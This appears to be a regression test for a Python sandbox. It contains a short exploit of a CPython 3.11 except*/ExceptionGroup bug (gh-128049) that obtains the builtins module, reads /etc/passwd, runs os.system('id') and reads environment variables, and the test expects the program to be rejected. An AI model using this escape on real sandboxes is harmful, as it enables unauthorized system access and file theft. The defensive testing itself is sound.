# expect: reject memory
# line: 15
# why: round 67: an except* clause calls the group's own split and reads its result as a pair unchecked (CPython 3.11, gh-128049): a split of the program's returning print bound the builtins module (or a function's builtins dict) to the clause's name; a program with a class deriving from ExceptionGroup has no except*
import sys


class G(ExceptionGroup):
    def split(self, kind):
        return print


def grab():
    try:
        raise G("g", [ValueError(1)])
    except* KeyError as e:
        yield e


keep = grab()
m = next(keep)
print(m)
print(m.open("/etc/passwd").read())
m.exec("import os; os.system('id'); print(os.environ['HOME'])")
sys.stdout.flush()
m.exec("import os; os._exit(0)")
